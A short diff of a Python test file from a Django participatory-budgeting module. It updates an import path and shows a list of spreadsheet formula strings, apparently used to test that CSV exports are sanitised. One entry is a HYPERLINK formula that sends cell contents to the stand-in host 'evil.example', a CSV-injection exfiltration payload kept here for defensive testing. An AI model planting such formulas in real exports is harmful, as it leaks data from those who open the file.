@@ -10,8 +10,8 @@ import pytest
 from django.core.cache import cache
 from django.core.management import call_command
 
+from pb_module.api.open_data import _cell
 from pb_module.models import Ballot, PBCyclePage, Proposal, ProposalPage
-from pb_module.open_data import _cell
 from pb_module.rules.text import csv_safe
 
 FORMULAS = ["=1+1", '=HYPERLINK("http://evil.example/?"&A1;"Click")', "+7 701", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1"]
